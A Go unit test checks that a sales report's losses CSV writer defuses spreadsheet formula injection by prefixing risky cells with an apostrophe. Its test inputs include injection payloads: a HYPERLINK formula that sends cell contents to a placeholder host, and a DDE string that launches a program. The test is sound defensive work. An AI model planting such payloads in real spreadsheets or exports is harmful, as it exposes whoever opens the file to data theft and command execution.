package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/dealpilot/dealpilot/bot/report"
	"github.com/dealpilot/dealpilot/domain"
	"github.com/dealpilot/dealpilot/domain/coaching"
)

// TestLossesCSVNeutralisesFormulas: a competitor, a loss reason or a display
// name is whatever someone typed; in the losses CSV a cell that a
// spreadsheet would run as a formula is written as text (a leading
// apostrophe), an ordinary cell and a negative number as they are. Every
// report CSV writes through the same writer (sheet.go).
func TestLossesCSVNeutralisesFormulas(t *testing.T) {
	evil := `=HYPERLINK("http://x/?"&A1,"click")`
	l := coaching.Losses{Deals: 2, Amount: 3_000_00,
		ByCompetitor: []coaching.LossRow{{Key: evil, Deals: 1, Amount: 1_000_00}, {Key: "-2+3", Deals: 1, Amount: 2_000_00}},
		ByReason:     []coaching.LossRow{{Key: "@SUM(A1)", Deals: 2, Amount: 3_000_00}},
		ByRep:        []coaching.LossRow{{Key: "U1", Deals: 2, Amount: 3_000_00}},
	}
	var b bytes.Buffer
	if err := report.WriteLossesCSV(&b, "EUR", l, map[domain.UserID]string{"U1": "+cmd|' /C calc'!A0"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
				t.Errorf("cell %q would run as a formula", c)
			}
			seen[c] = true
		}
	}
	for _, want := range []string{"'" + evil, "'-2+3", "'@SUM(A1)", "'+cmd|' /C calc'!A0", "3000.00"} {
		if !seen[want] {
			t.Errorf("no cell %q in\n%s", want, b.String())
		}
	}
}
